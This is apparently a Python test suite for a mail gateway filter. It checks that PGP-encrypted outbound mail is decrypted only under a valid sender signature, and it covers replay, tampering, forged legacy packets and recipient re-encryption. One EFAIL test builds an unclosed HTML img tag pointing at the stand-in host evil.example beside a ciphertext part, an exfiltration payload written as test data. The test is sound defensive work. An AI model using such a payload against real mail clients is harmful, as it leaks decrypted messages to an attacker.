#!/usr/bin/env python3
"""cryptmilter-filter outbound (SPEC §4): messages encrypted to the gateway
key by gpg, sq and rnp decrypt to the exact entity when the sender's own
signature passes the gate; every refusal keeps the plaintext in; mail for
others passes; local and opportunistic recipients are encrypted again."""
import os
import shutil
import subprocess
import threading
import time

from harness import pgpcraft as P
from harness import sender as S
from harness.filtcheck import passes, refused, run_filter
from harness.cmtest import (GNUPGHOME, args, check, check_decrypts_only_for, run_tests,
                            workdir, write_config)

BIN = None
TMP = None
CONF = None


def conf(**keys):
    """A configuration with the gateway key; keys override."""
    base = {"GatewayKeys": S.gateway_fpr(), "ReplayCache": os.path.join(TMP, "replay")}
    base.update(keys)
    path = os.path.join(TMP, "c-%d-%d.conf" % (os.getpid(), len(os.listdir(TMP))))
    return write_config(path, **base)


def filt(message, to=("x@ext.example",), sender="alice@example.org", config=None,
         direction="outbound"):
    return run_filter(BIN, config or CONF, message, sender, to, direction)


def decrypted(out, entity, trace=b"decrypted pgp-mime"):
    check(S.field_values(out, "X-Cryptmilter") == [trace], "trace %r"
          % S.field_values(out, "X-Cryptmilter"))
    got = S.entity_of(out)
    check(got == entity, "decrypted entity differs:\n%r\nwant\n%r" % (got[:300], entity[:300]))


# ------------------------------------------------------------ decryption

def shape_case(tool, shape):
    def t():
        mark = S.canary()
        ent = S.ENTITIES[shape](mark)
        out = passes(filt(S.pgp_mime(S.sign_encrypt(tool, ent, TMP))), tool)
        decrypted(out, ent)
    return ("decrypt/%s/%s" % (tool, shape), t)


def nested_case(tool):
    def t():
        mark = S.canary()
        ent = S.signed_entity(tool, S.entity_alternative(mark), TMP)
        out = passes(filt(S.pgp_mime(S.sign_encrypt(tool, ent, TMP, signer=None))), tool)
        decrypted(out, ent)
        S.verify_signed(out, TMP, GNUPGHOME)
    return ("decrypt/%s/signed-then-encrypted" % tool, t)


def inline_case(tool):
    def t():
        mark = S.canary()
        text = S.crlf(("Grüße aus dem Büro %s\nZweite Zeile\n" % mark).encode())
        out = passes(filt(S.inline(S.sign_encrypt(tool, text, TMP), charset="utf-8")), tool)
        check(S.field_values(out, "X-Cryptmilter") == [b"decrypted pgp-inline"], "trace")
        check(S.field_values(out, "Content-Type") == [b'text/plain; charset="utf-8"'],
              "Content-Type %r" % S.field_values(out, "Content-Type"))
        check(S.split(out)[1] == text, "inline text differs")
    return ("decrypt/%s/inline" % tool, t)


def protected_case(tool, kind):
    """Protected headers on the decrypted entity: the draft's
    protected-headers="v1", or RFC 9788's hp="cipher" with HP-Outer
    records, which stay inside."""
    def t():
        mark = S.canary()
        make = S.entity_protected if kind == "protected-headers" else S.entity_hp
        ent = make(mark, "The real subject " + mark[-6:])
        out = passes(filt(S.pgp_mime(S.sign_encrypt(tool, ent, TMP), subject="[...]")), tool)
        check(S.field_values(out, "Subject") == [b"The real subject " + mark[-6:].encode()],
              "outer Subject %r" % S.field_values(out, "Subject"))
        check(S.field_values(out, "HP-Outer") == [], "HP-Outer fields outside")
        decrypted(out, S.entity_without(ent, ["Subject", "From", "To", "HP-Outer"]))
    return ("decrypt/%s/%s" % (tool, kind), t)


def layered_case(tool):
    """Thunderbird's signed and encrypted mail: the protected fields on the
    signed part of an inner multipart/signed, the encryption unsigned."""
    def t():
        mark = S.canary()
        ent = S.signed_entity(tool, S.entity_protected(mark, "Layered subject " + mark[-6:]), TMP)
        out = passes(filt(S.pgp_mime(S.sign_encrypt(tool, ent, TMP, signer=None),
                                     subject="...")), tool)
        check(S.field_values(out, "Subject") == [b"Layered subject " + mark[-6:].encode()],
              "outer Subject %r" % S.field_values(out, "Subject"))
        decrypted(out, ent)
        S.verify_signed(out, TMP, GNUPGHOME)
    return ("decrypt/%s/layered-protected-headers" % tool, t)


def test_encrypted_to_others_passes():
    """Encrypted to alice only (her secret key is in KeyringDir's agent):
    not the gateway's, so not decrypted; the gateway never uses her key."""
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", S.entity_text(mark), TMP, to=["alice"]))
    out = passes(filt(msg), "e2e")
    check(out == msg, "message for alice changed")
    check(mark.encode() not in out, "decrypted")


def test_inbound_never_decrypted():
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", S.entity_text(mark), TMP))
    out = passes(filt(msg, to=("alice@example.org",), direction="inbound"), "inbound")
    check(mark.encode() not in out, "inbound mail decrypted")
    check(S.field_values(out, "X-Cryptmilter") == [b"skipped already-encrypted"], "trace")


def test_efail_mixed_content_not_decrypted():
    """An encrypted part beside plaintext: never decrypted (EFAIL)."""
    mark = S.canary()
    armor = S.sign_encrypt("gpg", S.entity_text(mark), TMP)
    msg = (S.outer_header() + b"Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n"
           b"--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"
           b"--m\r\nContent-Type: text/plain\r\n\r\n" + S.crlf(armor) + b"\r\n--m--\r\n")
    out = passes(filt(msg), "efail")
    check(mark.encode() not in out, "an encrypted part mixed with other content was decrypted")
    check(b"BEGIN PGP MESSAGE" in out, "ciphertext gone")


# ------------------------------------------------------------ the gate

def gate_refusal(name, make, code, xcode, text, sender="alice@example.org", exit_code=69,
                 config=None):
    def t():
        mark = S.canary()
        r = filt(make(mark), sender=sender, config=config)
        refused(r, mark, code, xcode, exit_code, text)
    return ("refuse/" + name, t)


def _plain(mark):
    return S.entity_text(mark)


def _ago(seconds):
    return time.strftime("%Y%m%dT%H%M%S", time.gmtime(time.time() - seconds))


GATE = [
    gate_refusal("unsigned", lambda m: S.pgp_mime(S.sign_encrypt("gpg", _plain(m), TMP, signer=None)),
                 "550", "5.7.1", "must be signed"),
    gate_refusal("wrong-signer", lambda m: S.pgp_mime(S.sign_encrypt("sq", _plain(m), TMP,
                                                                     signer="mallory")),
                 "550", "5.7.1", "not yours"),
    gate_refusal("unknown-signer", lambda m: S.pgp_mime(
        S.sign_encrypt("gpg", _plain(m), TMP, signer="outsider")),
        "550", "5.7.1", "does not know"),
    gate_refusal("from-mismatch", lambda m: S.pgp_mime(S.sign_encrypt("rnp", _plain(m), TMP),
                                                       frm="Boss <boss@example.org>"),
                 "550", "5.7.1", "From: address"),
    gate_refusal("protected-from-mismatch", lambda m: S.pgp_mime(S.sign_encrypt(
        "gpg", S.entity_protected(m, "x", frm="Boss <boss@example.org>"), TMP)),
        "550", "5.7.1", "From: address"),
    gate_refusal("stale", lambda m: S.pgp_mime(S.sign_encrypt("gpg", _plain(m), TMP,
                                                              faked_time=_ago(7300))),
                 "550", "5.7.1", "2h old"),
    gate_refusal("future", lambda m: S.pgp_mime(S.sign_encrypt("gpg", _plain(m), TMP,
                                                               faked_time=_ago(-3600))),
                 "550", "5.7.1", "in the future"),
    gate_refusal("inner-signature-by-other", lambda m: S.pgp_mime(S.sign_encrypt(
        "gpg", S.signed_entity("gpg", _plain(m), TMP, signer="mallory"), TMP, signer=None)),
        "550", "5.7.1", "not yours"),
]


def test_inner_signature_tampered():
    mark = S.canary()
    ent = S.signed_entity("gpg", _plain(mark), TMP).replace(b"Second line", b"Second lime")
    r = filt(S.pgp_mime(S.sign_encrypt("gpg", ent, TMP, signer=None)))
    refused(r, mark, "550", "5.7.7", 69, "does not verify")


def test_stale_accepted_with_longer_max_age():
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP, faked_time=_ago(7300)))
    out = passes(filt(msg, config=conf(SignatureMaxAge="3h")), "SignatureMaxAge 3h")
    check(mark.encode() in out, "not decrypted")


def test_require_signature_no():
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP, signer=None))
    out = passes(filt(msg, config=conf(RequireSignature="no")), "RequireSignature no")
    decrypted(out, _plain(mark))


# ------------------------------------------------------------ replay

def test_replay_second_process():
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP))
    passes(filt(msg), "first")
    refused(filt(msg), mark, "550", "5.7.1", 69, "already sent once")


def test_replay_rewrapped_and_reencrypted():
    """The same signed content in new headers, encrypted again: a replay."""
    mark = S.canary()
    inner = S.signed_entity("gpg", _plain(mark), TMP)
    passes(filt(S.pgp_mime(S.sign_encrypt("gpg", inner, TMP, signer=None))), "first")
    again = S.pgp_mime(S.sign_encrypt("sq", inner, TMP, signer=None), subject="Re: new")
    refused(filt(again), mark, "550", "5.7.1", 69, "already sent once")


def test_replay_concurrent_processes():
    """Eight processes given one message at once: exactly one lets it out."""
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP))
    results = [None] * 8

    def one(i):
        results[i] = filt(msg)
    threads = [threading.Thread(target=one, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    ok = [r for r in results if r.returncode == 0]
    check(len(ok) == 1, "%d processes let it out" % len(ok))
    for r in results:
        if r.returncode != 0:
            refused(r, "no-such-mark", "550", "5.7.1", 69, "already sent once")


def test_many_messages_same_second_do_not_collide():
    """One signer, many different messages in the same second: all pass."""
    marks = [S.canary() for _ in range(6)]
    msgs = [S.pgp_mime(S.sign_encrypt("rnp", _plain(m), TMP)) for m in marks]
    for m, msg in zip(marks, msgs):
        out = passes(filt(msg), "distinct message")
        check(m.encode() in out, "not decrypted")


# ------------------------------------------------------------ integrity

def _dearmor(armor):
    import base64
    lines = armor.decode().strip().splitlines()
    body = [line for line in lines[lines.index("") + 1:-1] if not line.startswith("=")]
    return base64.b64decode("".join(body))


def _last_packet(data):
    """(offset, header length, tag, body length) of data's last packet."""
    tag, whole, hl = P.packets(data)[-1]
    return len(data) - len(whole), hl, tag, len(whole) - hl


def test_corrupted_ciphertext():
    mark = S.canary()
    data = bytearray(_dearmor(S.sign_encrypt("gpg", _plain(mark) * 20, TMP)))
    off, hl, tag, bl = _last_packet(bytes(data))
    data[off + hl + bl // 2] ^= 0x55
    r = filt(S.pgp_mime(P.armor(bytes(data))))
    refused(r, mark, "554", "5.7.5", 69, "cannot decrypt")


def test_no_mdc_refused_without_decrypting():
    """A legacy SED packet (no integrity protection) for the gateway key is
    refused before the engine sees it, with the same reply as corruption."""
    mark = S.canary()
    data = bytearray(_dearmor(S.sign_encrypt("gpg", _plain(mark), TMP)))
    off, hl, tag, bl = _last_packet(bytes(data))
    check(tag == 18, "gpg did not write SEIPD")
    # SEIPD's version octet is not part of SED: drop it and shorten the length.
    body = bytes(data[off + hl + 1:off + hl + bl])
    sed = bytes([0xC0 | 9]) + (bytes([255]) + len(body).to_bytes(4, "big")) + body
    r = filt(S.pgp_mime(P.armor(bytes(data[:off]) + sed)))
    refused(r, mark, "554", "5.7.5", 69, "cannot decrypt")


# ------------------------------------------------------------ our failures

def private_home(name, drop_gateway_secret=False, no_agent=False):
    home = os.path.join(TMP, name)
    shutil.copytree(GNUPGHOME, home, ignore=shutil.ignore_patterns("S.*", ".#*", "*.lock"))
    if drop_gateway_secret:
        r = subprocess.run(["gpg", "--batch", "--with-colons", "--with-keygrip", "--list-keys",
                            S.gateway_fpr()], capture_output=True, env=dict(os.environ, GNUPGHOME=home))
        for line in r.stdout.decode().splitlines():
            if line.startswith("grp:"):
                p = os.path.join(home, "private-keys-v1.d", line.split(":")[9] + ".key")
                if os.path.exists(p):
                    os.unlink(p)
    if no_agent:
        with open(os.path.join(home, "gpg.conf"), "a") as f:
            f.write("no-autostart\n")
    return home


def test_gateway_key_missing_from_agent():
    home = private_home("nosecret", drop_gateway_secret=True)
    mark = S.canary()
    r = filt(S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP)), config=conf(KeyringDir=home))
    subprocess.run(["gpgconf", "--kill", "all"], env=dict(os.environ, GNUPGHOME=home))
    refused(r, mark, "451", "4.3.0", 75, "decryption key unavailable")


def test_gateway_key_brought_in_with_gpg_import():
    """A gateway key made elsewhere and brought in with gpg --import, the
    README's workflow: gpg-agent keeps it as imported ("openpgp-native")
    until it first uses it, and both backends decrypt with it as it is."""
    home = private_home("imported", drop_gateway_secret=True)
    henv = dict(os.environ, GNUPGHOME=home)
    sec = subprocess.run(["gpg", "--batch", "--pinentry-mode", "loopback", "--passphrase", "",
                          "--export-secret-keys", S.gateway_fpr()], capture_output=True,
                         env=dict(os.environ, GNUPGHOME=GNUPGHOME), check=True).stdout
    check(len(sec) > 0, "no secret key exported")
    subprocess.run(["gpg", "--batch", "--quiet", "--import"], input=sec, env=henv,
                   capture_output=True, check=True)
    r = subprocess.run(["gpg", "--batch", "--with-colons", "--with-keygrip", "--list-keys",
                        S.gateway_fpr()], capture_output=True, text=True, env=henv, check=True)
    grips = [x.split(":")[9] for x in r.stdout.splitlines() if x.startswith("grp:")]
    with open(os.path.join(home, "private-keys-v1.d", grips[-1] + ".key"), "rb") as f:
        check(b"openpgp-native" in f.read(), "the imported key file is not as gpg --import leaves it")
    mark = S.canary()
    ent = _plain(mark)
    try:
        out = passes(filt(S.pgp_mime(S.sign_encrypt("gpg", ent, TMP)),
                          config=conf(KeyringDir=home)), "imported gateway key")
    finally:
        subprocess.run(["gpgconf", "--kill", "all"], env=henv)
    decrypted(out, ent)


def test_gateway_key_with_passphrase_held_by_the_agent():
    """Decryption is gpg-agent's whatever OpenPGPBackend says: a gateway key
    protected by a passphrase that the agent holds (preset) decrypts under
    both backends, and `cryptmilter -n` finds it usable; the milter never
    reads the key file."""
    home = private_home("passphrase")
    henv = dict(os.environ, GNUPGHOME=home)
    try:
        subprocess.run(["gpg", "--batch", "--pinentry-mode", "loopback", "--passphrase", "pw",
                        "--passwd", S.gateway_fpr()], env=henv, capture_output=True, check=True)
        with open(os.path.join(home, "gpg-agent.conf"), "a") as f:
            f.write("allow-preset-passphrase\n")
        subprocess.run(["gpgconf", "--kill", "gpg-agent"], env=henv, check=True)
        subprocess.run(["gpgconf", "--launch", "gpg-agent"], env=henv, check=True)
        r = subprocess.run(["gpg", "--batch", "--with-colons", "--with-keygrip", "--list-keys",
                            S.gateway_fpr()], capture_output=True, text=True, env=henv, check=True)
        libexec = subprocess.run(["gpgconf", "--list-dirs", "libexecdir"], capture_output=True,
                                 text=True, check=True).stdout.strip()
        for grip in [x.split(":")[9] for x in r.stdout.splitlines() if x.startswith("grp:")]:
            with open(os.path.join(home, "private-keys-v1.d", grip + ".key"), "rb") as f:
                check(b"protected-private-key" in f.read(), "the key has no passphrase")
            subprocess.run([os.path.join(libexec, "gpg-preset-passphrase"), "--preset", "-P", "pw",
                            grip], env=henv, check=True)
        mark = S.canary()
        ent = _plain(mark)
        out = passes(filt(S.pgp_mime(S.sign_encrypt("gpg", ent, TMP)),
                          config=conf(KeyringDir=home)), "gateway key with a passphrase")
        rc, line = check_n(conf(KeyringDir=home))     # cryptmilter -n asks gpg-agent too
        check(rc == 0 and "with usable secret parts" in line, "%d %r" % (rc, line))
    finally:
        subprocess.run(["gpgconf", "--kill", "all"], env=henv)
    decrypted(out, ent)


def test_agent_dead():
    """Under either backend: gpg-agent decrypts."""
    home = private_home("noagent", no_agent=True)
    mark = S.canary()
    r = filt(S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP)), config=conf(KeyringDir=home))
    refused(r, mark, "451", "4.3.0", 75, "decryption key unavailable")


def test_gateway_key_not_in_keyring():
    mark = S.canary()
    r = filt(S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP)),
             config=conf(GatewayKeys=S.gateway_fpr() + ", " + "AB" * 20))
    refused(r, mark, "451", "4.3.0", 75, "decryption key unavailable")


def check_n(config):
    """cryptmilter -n on config: exit code and the GatewayKeys report line."""
    r = subprocess.run([os.path.join(os.path.dirname(BIN), "cryptmilter"), "-n", "-c", config],
                       capture_output=True, text=True)
    lines = [x for x in r.stdout.splitlines() if x.startswith("# GatewayKeys")]
    check(len(lines) == 1, "no GatewayKeys line: %r" % r.stdout[-500:])
    return r.returncode, lines[0]


def test_check_reports_gateway_keys():
    rc, line = check_n(CONF)
    check(rc == 0 and "all 1 in KeyringDir, with usable secret parts" in line, "%d %r" % (rc, line))


def test_check_refuses_gateway_key_not_in_keyring():
    rc, line = check_n(conf(GatewayKeys=S.gateway_fpr() + ", " + "AB" * 20))
    check(rc == 78 and "AB" * 20 in line and "not in KeyringDir" in line, "%d %r" % (rc, line))


def test_check_refuses_gateway_key_without_secret():
    home = private_home("n-nosecret", drop_gateway_secret=True)
    rc, line = check_n(conf(KeyringDir=home))
    subprocess.run(["gpgconf", "--kill", "all"], env=dict(os.environ, GNUPGHOME=home))
    check(rc == 78 and "secret" in line, "%d %r" % (rc, line))


def test_cache_unwritable():
    bad = os.path.join(TMP, "cache-is-a-file")
    with open(bad, "w") as f:
        f.write("x")
    mark = S.canary()
    r = filt(S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP)),
             config=conf(ReplayCache=os.path.join(bad, "replay")))
    refused(r, mark, "451", "4.3.0", 75, "replay cache unavailable")


# ------------------------------------------------------------ recipients

def test_local_and_external_split():
    config = conf(LocalDomains="example.org")
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP))
    r = filt(msg, to=("x@ext.example", "bob@example.org"), config=config)
    refused(r, mark, "452", "4.5.3", 75, "separate transactions")


def test_local_recipient_encrypted_again():
    config = conf(LocalDomains="example.org")
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP))
    out = passes(filt(msg, to=("bob@example.org",), config=config), "local")
    check(mark.encode() not in out, "plaintext to a local mailbox")
    check(S.field_values(out, "X-Cryptmilter") == [b"encrypted pgp-mime"], "trace")
    check_decrypts_only_for(out, "bob", TMP)


def test_split_retry_for_local_recipient_is_no_replay():
    """After 452 for its local recipient the client sends the same message
    again: the local copy is encrypted to bob, so it is let through; the
    same message to an external recipient again is a replay."""
    config = conf(LocalDomains="example.org")
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("gpg", _plain(mark), TMP))
    decrypted(passes(filt(msg, to=("x@ext.example",), config=config), "external"), _plain(mark))
    out = passes(filt(msg, to=("bob@example.org",), config=config), "local retry")
    check_decrypts_only_for(out, "bob", TMP)
    refused(filt(msg, to=("y@ext.example",), config=config), mark, "550", "5.7.1", 69,
            "already sent once")


def test_local_plaintext_encrypted_as_inbound():
    config = conf(LocalDomains="example.org")
    mark = S.canary()
    msg = S.outer_header(to="bob@example.org") + S.entity_text(mark)
    out = passes(filt(msg, to=("bob@example.org",), config=config), "local plaintext")
    check(mark.encode() not in out, "plaintext to a local mailbox")
    check_decrypts_only_for(out, "bob", TMP)


def test_opportunistic_all_keyed():
    config = conf(OpportunisticEncryption="yes")
    mark = S.canary()
    msg = S.pgp_mime(S.sign_encrypt("sq", _plain(mark), TMP))
    out = passes(filt(msg, to=("bob@example.org",), config=config), "opportunistic")
    check(mark.encode() not in out, "sent in clear though bob has a key")
    check_decrypts_only_for(out, "bob", TMP)


def test_opportunistic_keeps_the_protected_subject():
    """Encrypted again to an external recipient, a message whose protected
    Subject is signed (Thunderbird's layered shape, and RFC 9788's
    hp="cipher") carries that Subject inside; outside it is [...]."""
    config = conf(OpportunisticEncryption="yes")
    for shape in ("layered", "hp-cipher"):
        mark = S.canary()
        subject = "Secret plans " + mark[-6:]
        if shape == "layered":
            ent = S.signed_entity("gpg", S.entity_protected(mark, subject), TMP)
            msg = S.pgp_mime(S.sign_encrypt("gpg", ent, TMP, signer=None), subject="...")
        else:
            msg = S.pgp_mime(S.sign_encrypt("gpg", S.entity_hp(mark, subject), TMP), subject="[...]")
        out = passes(filt(msg, to=("bob@example.org",), config=config), shape)
        check(subject.encode() not in out, "%s: the Subject readable outside" % shape)
        check(S.field_values(out, "Subject") == [b"[...]"], "%s: outer Subject %r"
              % (shape, S.field_values(out, "Subject")))
        inner = S.split(check_decrypts_only_for(out, "bob", TMP))[0]
        subjects = [b"\r\n".join(f) for f in inner if f[0].lower().startswith(b"subject:")]
        check(subjects == [b"Subject: " + subject.encode()], "%s: protected Subject %r"
              % (shape, subjects))


def test_header_protection_round_trip():
    """Inbound with ProtectHeaders yes, then the decrypted payload as the
    user's client sends it back out (signed, encrypted to the gateway, the
    Subject [...] outside): it leaves with its Subject."""
    mark = S.canary()
    subject = "Round trip " + mark[-6:]
    msg = S.crlf(("From: Alice <alice@example.org>\nTo: alice@example.org\nSubject: %s\n"
                  "Date: Sun, 06 Dec 2026 09:00:00 +0000\nMessage-ID: <%s@example.org>\n"
                  "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n"
                  "Body %s\n" % (subject, mark, mark)).encode())
    out = passes(filt(msg, to=("alice@example.org",), sender="list@ext.example",
                      direction="inbound"), "inbound")
    check(subject.encode() not in out, "the Subject readable in the mailbox")
    payload = check_decrypts_only_for(out, "alice", TMP)
    back = S.pgp_mime(S.sign_encrypt("gpg", payload, TMP), subject="[...]")
    out = passes(filt(back), "back out")
    check(S.field_values(out, "Subject") == [subject.encode()],
          "outer Subject %r" % S.field_values(out, "Subject"))
    check(("Body " + mark).encode() in out, "the body did not come back")


def test_opportunistic_some_keyless_goes_out_decrypted():
    config = conf(OpportunisticEncryption="yes")
    mark = S.canary()
    ent = _plain(mark)
    msg = S.pgp_mime(S.sign_encrypt("gpg", ent, TMP))
    out = passes(filt(msg, to=("bob@example.org", "x@ext.example"), config=config), "mixed")
    decrypted(out, ent)


def test_opportunistic_never_to_gateway_key():
    config = conf(OpportunisticEncryption="yes")
    mark = S.canary()
    msg = S.outer_header(to="gateway@gw.example.net") + _plain(mark)
    out = passes(filt(msg, to=("gateway@gw.example.net",), config=config), "to gateway")
    check(out == msg, "mail to the gateway's own address was changed")


def test_inbound_to_the_gateway_address_is_encrypted():
    """The gateway key is skipped only for outbound recipients: inbound
    mail to its address is encrypted to it, never delivered in clear."""
    mark = S.canary()
    msg = S.outer_header(to="gateway@gw.example.net") + _plain(mark)
    out = passes(filt(msg, to=("gateway@gw.example.net",), sender="a@ext.example",
                      direction="inbound"), "inbound to the gateway")
    check(mark.encode() not in out, "inbound mail to the gateway address delivered in clear")
    check(S.field_values(out, "X-Cryptmilter") == [b"encrypted pgp-mime"], "trace %r"
          % S.field_values(out, "X-Cryptmilter"))


def test_oversize_to_external_passes_as_it_is():
    """Too large for the gateway: external mail leaves as it is (it used to
    and must, or it waits in the queue until it bounces); a local
    recipient's copy follows OversizeAction like inbound mail."""
    mark = S.canary()
    config = conf(MaxMessageSize="1K", LocalDomains="example.org")
    msg = S.outer_header() + _plain(mark) + b"x" * 2048 + b"\r\n"
    out = passes(filt(msg, config=config), "oversize external")
    check(out == msg, "oversize external message changed")
    refused(filt(msg, to=("bob@example.org",), config=config), mark, "452", "4.3.4", 75)


def test_opportunistic_plaintext():
    config = conf(OpportunisticEncryption="yes")
    mark = S.canary()
    msg = S.outer_header(to="bob@example.org") + _plain(mark)
    out = passes(filt(msg, to=("bob@example.org",), config=config), "plaintext")
    check(mark.encode() not in out, "sent in clear")
    check_decrypts_only_for(out, "bob", TMP)


def main():
    global BIN, TMP, CONF
    BIN = os.path.join(args().bindir, "cryptmilter-filter")
    TMP = workdir()
    CONF = conf()
    tests = [shape_case(t, s) for t in S.TOOLS for s in S.ENTITIES]
    tests += [nested_case(t) for t in S.TOOLS]
    tests += [inline_case(t) for t in S.TOOLS]
    tests += [protected_case(t, k) for t in S.TOOLS for k in ("protected-headers", "hp-cipher")]
    tests += [layered_case(t) for t in S.TOOLS]
    tests += GATE
    tests += [(n[len("test_"):], f) for n, f in sorted(globals().items())
              if n.startswith("test_") and callable(f)]
    run_tests(tests)


if __name__ == "__main__":
    main()
